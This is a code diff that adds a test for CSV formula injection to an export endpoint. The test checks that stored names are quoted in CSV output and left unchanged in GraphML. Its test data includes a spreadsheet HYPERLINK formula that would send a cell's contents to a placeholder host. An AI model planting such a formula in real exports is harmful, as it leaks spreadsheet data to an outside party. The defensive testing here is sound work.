@@ -143,3 +143,21 @@ async def test_exports_stay_well_formed_whatever_a_stored_name_holds(
     rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
     assert len(rows) == 45
     assert next(r for r in rows if r["id"] == "thamesgate-bank")["name"] == exported
+
+
+async def test_a_stored_formula_is_exported_as_text_not_run_by_a_spreadsheet(
+    seeded: Database, client: httpx.AsyncClient
+) -> None:
+    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")'
+    await organisations.update_organisation(seeded, org_id="thamesgate-bank", changes={"name": formula})
+    await organisations.update_organisation(seeded, org_id="kestrel-bank", changes={"nameZh": "-1+2"})
+    rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
+    by_id = {r["id"]: r for r in rows}
+    assert by_id["thamesgate-bank"]["name"] == "'" + formula
+    assert by_id["kestrel-bank"]["nameZh"] == "'-1+2"
+    # GraphML is no spreadsheet's input: it keeps the text as stored.
+    graphml = await client.get("/export/graph.graphml", params={"type": "Institution"})
+    graph = ET.fromstring(graphml.content).find(f"{GRAPHML}graph")
+    assert graph is not None
+    node = graph.find(f"{GRAPHML}node[@id='thamesgate-bank']")
+    assert node is not None and node.findtext(f"{GRAPHML}data[@key='n_name']") == formula
